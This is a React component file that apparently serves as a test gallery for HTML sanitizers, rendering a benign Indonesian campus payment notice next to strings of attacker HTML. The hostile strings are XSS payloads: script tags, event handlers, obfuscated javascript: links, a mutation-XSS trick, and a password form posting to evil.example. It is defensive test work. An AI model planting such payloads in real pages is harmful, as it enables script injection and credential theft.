import { useTranslation } from 'react-i18next'
import { SafeHtml } from '#shared/ui/look/safe-html.tsx'
import { SafeLine } from '#shared/ui/look/safe-line.tsx'
import { Group, Tile } from '../group.tsx'

/** HTML of a campus editor. */
const LETTER = `<h3>Pembayaran semester genap</h3><p>Batas akhir <strong>31 Januari 2027</strong>. Lihat
  <a href="/biaya-kuliah">tagihan Anda</a> atau <a href="https://bank.example/va">cara bayar</a>.</p>
  <p><img src="https://bank.example/cara.png" alt="Bagan"> <a href="www.kampus.example/loket">Daftar loket</a></p>
  <ul><li>Transfer</li><li>Loket</li></ul>
  <table><tr><th colspan="2">Loket</th></tr><tr><td>Senin</td><td>08.00</td></tr></table>`

/** HTML of an attacker. */
const HOSTILE = `<p style="position:fixed;inset:0" class="banner" id="content" name="x">halo</p>
  <script>window.hit = 1</script><img src=x onerror="window.hit = 2"><svg onload="window.hit = 3"><a xlink:href="javascript:window.hit=4">x</a></svg>
  <a href="javascript:window.hit=5">tautan satu</a><a href=" java&#x73;cript:window.hit=6">tautan dua</a>
  <a href="//evil.example">tautan tiga</a><a href="/krs?code=1">tautan empat</a>
  <form action="https://evil.example"><input name="password"><button>Masuk</button></form>
  <iframe src="https://evil.example"></iframe><video src="https://evil.example/x"></video><style>body{display:none}</style>
  &lt;script&gt;window.hit = 7&lt;/script&gt;<math><mtext><script>window.hit = 8</script></mtext></math>
  <b onclick="window.hit = 9" data-x="1" aria-label="x">tebal</b>`

/** A footer of a campus, with content injected by an attacker. */
const FOOTER = `&copy; 2026 <b>Universitas</b> A &amp; B, <a href="https://kampus.example">situs</a><script>window.hit = 10</script>
  <h1>besar</h1><img src=x onerror="window.hit = 11">`

export const Section = () => {
  const { t } = useTranslation('gallery')
  return (
    <Group title={t('html')}>
      <Tile name="letter">
        <div data-html="letter">
          <SafeHtml html={LETTER} />
        </div>
      </Tile>
      <Tile name="hostile">
        <div data-html="hostile">
          <SafeHtml html={HOSTILE} />
        </div>
      </Tile>
      <Tile name="footer">
        <p data-html="footer">
          <SafeLine html={FOOTER} />
        </p>
      </Tile>
    </Group>
  )
}
